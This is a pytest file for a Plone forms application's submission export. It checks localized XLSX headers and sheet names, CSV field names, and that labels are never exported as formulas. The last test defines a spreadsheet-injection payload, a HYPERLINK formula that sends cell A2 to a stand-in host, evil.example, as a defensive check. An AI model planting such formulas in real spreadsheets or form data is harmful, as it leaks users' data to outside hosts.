"""The XLSX export is the staff's spreadsheet: its fields' headers are
"Label (name)" with the label in the exporting staff member's language,
its sheet is named in that language; CSV keeps the fields' names."""

from fixtures.forms import VALID_DATA
from imio.guichet.i18n import translate_for
from imio.guichet.submissions.export import SHEET_TITLE
from openpyxl import load_workbook
from plone import api

import csv
import io
import pytest
import transaction


@pytest.fixture
def two_languages(site, session_for):
    api.portal.set_registry_record("plone.available_languages", ["fr", "de"])
    api.portal.set_registry_record("plone.use_request_negotiation", True)
    # The German labels of the form (what the translation page saves).
    site.demarches.x._form_labels = {"de": {"fields": {"name": {"title": "Name"}}}}
    transaction.commit()
    anon = session_for("Anonymous")
    anon.post("demarches/x/@submissions", json={"data": VALID_DATA})


def export(session_for, kind, language):
    office = session_for("backoffice_x")
    office.headers["Accept-Language"] = language
    response = office.get(f"demarches/x/@submissions-export?format={kind}")
    assert response.status_code == 200, response.text
    return response


@pytest.mark.parametrize("language, label", [("fr", "Nom"), ("de", "Name")])
def test_the_xlsx_headers_and_sheet_are_in_the_staff_language(
    two_languages, session_for, language, label
):
    content = export(session_for, "xlsx", language).content
    workbook = load_workbook(io.BytesIO(content), read_only=True)
    sheet = workbook.active
    assert sheet.title == translate_for(SHEET_TITLE, language)
    headers = next(sheet.values)
    assert headers[:2] == ("id", "reference")
    assert headers[9] == f"{label} (name)"
    assert "Date de naissance (birth_date)" in headers or language == "de"


def test_the_csv_keeps_the_field_names(two_languages, session_for):
    text = export(session_for, "csv", "de").text
    header = next(csv.reader(io.StringIO(text)))
    assert header[9] == "name"


def test_a_label_is_never_a_formula_in_the_headers(two_languages, site, session_for):
    """A label is a webmaster's (or a shared model's) text: like answers,
    written as text, never as a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Cliquez")'
    site.demarches.x._form_labels = {"de": {"fields": {"name": {"title": formula}}}}
    transaction.commit()
    content = export(session_for, "xlsx", "de").content
    header = next(load_workbook(io.BytesIO(content)).active.iter_rows())[9]
    assert (header.data_type, header.value) == ("s", f"{formula} (name)")
